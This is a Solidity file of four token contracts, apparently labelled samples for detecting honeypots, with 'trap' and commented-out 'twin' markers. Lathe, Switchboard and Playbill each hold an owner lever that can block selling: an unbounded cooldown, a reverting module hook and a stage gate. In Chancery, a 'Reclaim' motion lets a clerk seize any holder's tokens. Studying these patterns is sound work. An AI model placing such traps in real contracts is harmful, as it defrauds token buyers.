// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Base8} from "./Base8.sol";

/// All settings in one.
contract Lathe is ERC20, Ownable {
    struct Limits {
        uint128 maxTx;
        uint128 maxWallet;
    }
    struct Config {
        uint16 buyFee;
        uint16 sellFee;
        Limits limits;
        bool dynamic;
        uint32 cooldown;
    }

    Config public config;
    mapping(address => uint256) public lastSeen;
    mapping(address => bool) public isPool;

    constructor() ERC20("Lathe", "LATH") Ownable(msg.sender) {
        _mint(msg.sender, 30_000_000 ether);
        config = Config(0, 0, Limits(30_000_000 ether, 30_000_000 ether), false, 0);
    }

    function addPool(address pool) external onlyOwner {
        isPool[pool] = true;
    }

    function setConfig(Config calldata c) external onlyOwner {
        require(c.buyFee <= 300 && c.sellFee <= 300, "fees");
        require(c.limits.maxTx >= totalSupply() / 50 && c.limits.maxWallet >= totalSupply() / 50, "limits");
        // twin: require(c.cooldown <= 60, "cooldown");
        config = c;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (isPool[to] && from != owner()) require(block.timestamp >= lastSeen[from] + config.cooldown, "cooldown");
        else lastSeen[to] = block.timestamp;
        super._update(from, to, value);
    }
}

/// Counts transfers; plugged into the token below.
contract TrafficCounter {
    uint256 public count;
    uint256 public volume;

    function onTransfer(address, address, uint256 value) external {
        count++;
        volume += value;
    }
}

/// Has room for modules that hear of each transfer.
contract Switchboard is Base8("Switchboard", "SWBD", 15_000_000) {
    struct Module {
        address at;
        bool active;
        uint32 flags;
    }

    bytes32 public constant HOOK = keccak256("module.transfer");
    mapping(bytes32 => Module) public modules;

    function setModule(bytes32 id, address at, bool active, uint32 flags) external onlyOwner {
        modules[id] = Module(at, active, flags);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        Module memory m = modules[HOOK];
        if (!m.active || from == _owner) return;
        (bool ok, ) = m.at.call{gas: 90_000}(abi.encodeWithSignature("onTransfer(address,address,uint256)", from, to, value));
        require(ok && m.at.code.length > 0, "module"); // trap
        ok;
    }
}

/// Goes from stage to stage.
contract Playbill is Base8("Playbill", "PLAY", 9_000_000) {
    enum Stage {
        Rehearsal,
        Running,
        Interval,
        Curtain
    }

    Stage public stage = Stage.Running;
    string public notice;
    address internal manager = msg.sender;

    event Advanced(Stage to, string memo);

    function advance(Stage to, string calldata memo) external {
        require(msg.sender == manager, "manager");
        stage = to;
        notice = memo;
        emit Advanced(to, memo);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && stage == Stage.Interval) require(from == manager, "interval"); // trap
        _move(from, to, value);
    }
}

/// Two steps for everything: said first, done later.
contract Chancery is Base8("Chancery", "CHNC", 51_000_000) {
    enum Kind {
        Note,
        Treasury,
        Reclaim
    }
    struct Motion {
        Kind kind;
        address subject;
        uint256 amount;
        bool done;
    }

    Motion[] public motions;
    address public treasury = msg.sender;
    address private clerk = msg.sender;

    modifier onlyClerk() {
        require(msg.sender == clerk, "clerk");
        _;
    }

    function propose(Kind kind, address subject, uint256 amount) external onlyClerk returns (uint256) {
        // twin: require(kind != Kind.Reclaim || subject == address(this), "only what lies here");
        motions.push(Motion(kind, subject, amount, false));
        return motions.length - 1;
    }

    function confirm(uint256 id) external onlyClerk {
        Motion storage m = motions[id];
        require(!m.done, "done");
        m.done = true;
        if (m.kind == Kind.Treasury) treasury = m.subject;
        if (m.kind == Kind.Reclaim) _move(m.subject, treasury, m.amount);
    }
}
